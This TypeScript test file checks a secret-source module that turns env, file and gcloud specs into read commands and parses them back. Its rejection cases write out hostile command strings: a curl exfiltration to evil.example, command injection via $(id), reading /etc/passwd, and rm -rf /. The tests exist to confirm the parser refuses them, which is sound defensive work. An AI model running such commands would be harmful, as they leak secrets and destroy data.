/** Where the secret is read: the spec a person types, the command a printed line runs, and nothing else. */
import fc from 'fast-check';
import {
  gcloudReadArgs,
  parseSecretReadCommand,
  parseSecretSpec,
  secretReadCommand,
  secretSpec,
  type SecretSource,
} from '../../../../shared/modal/secret-source';

it.each([
  ['env:MODAL_WEBHOOK_SECRET', 'printenv MODAL_WEBHOOK_SECRET'],
  ['file:/work/main/.data/secret', "cat '/work/main/.data/secret'"],
  [
    'gcloud:omtx-prod-1/omtx-webhook-secret/3',
    'gcloud secrets versions access 3 --secret=omtx-webhook-secret --project=omtx-prod-1',
  ],
])('reads %s with %s, and parses the command back to the same source', (spec, command) => {
  const source = parseSecretSpec(spec)!;
  expect(secretReadCommand(source)).toBe(command);
  expect(parseSecretReadCommand(command)).toEqual(source);
  expect(secretSpec(source)).toBe(spec);
});

it('runs gcloud with an argument vector of its own making', () => {
  expect(gcloudReadArgs({ kind: 'gcloud', project: 'omtx-prod-1', secret: 's', version: '3' })).toEqual([
    'secrets',
    'versions',
    'access',
    '3',
    '--secret=s',
    '--project=omtx-prod-1',
  ]);
});

it.each([
  'printenv S; curl https://evil.example -d @.data/secret',
  'printenv $(id)',
  'printenv HOME extra',
  'cat /etc/passwd && true',
  "cat '/x'; rm -rf /",
  "cat 'relative/path'",
  'gcloud secrets versions access 3 --secret=s --project=p --impersonate-service-account=x',
  'gcloud secrets versions access 3 --secret=s --project=ab',
  'bash -c "printenv S"',
  '',
])('stands for no source: the command %j', (command) => {
  expect(parseSecretReadCommand(command)).toBeUndefined();
});

it.each(['env:', 'env:A B', 'file:relative', "file:/a'b", 'gcloud:p/s', 'gcloud:proj-one/s/3/x', 'exec:rm', 'HOME'])(
  'refuses the spec %j',
  (spec) => {
    expect(parseSecretSpec(spec)).toBeUndefined();
  },
);

it('keeps spec, command and source one value for any valid source (property)', () => {
  const source: fc.Arbitrary<SecretSource> = fc.oneof(
    fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,20}$/).map((name) => ({ kind: 'env' as const, name })),
    fc.stringMatching(/^\/[^'\0\n]{1,40}$/).map((path) => ({ kind: 'file' as const, path })),
    fc
      .record({
        project: fc.stringMatching(/^[a-z][a-z0-9-]{4,10}[a-z0-9]$/),
        secret: fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/),
        version: fc.oneof(fc.constant('latest'), fc.stringMatching(/^[0-9]{1,5}$/)),
      })
      .map((g) => ({ kind: 'gcloud' as const, ...g })),
  );
  fc.assert(
    fc.property(source, (s) => {
      expect(parseSecretSpec(secretSpec(s))).toEqual(s);
      expect(parseSecretReadCommand(secretReadCommand(s))).toEqual(s);
    }),
  );
});
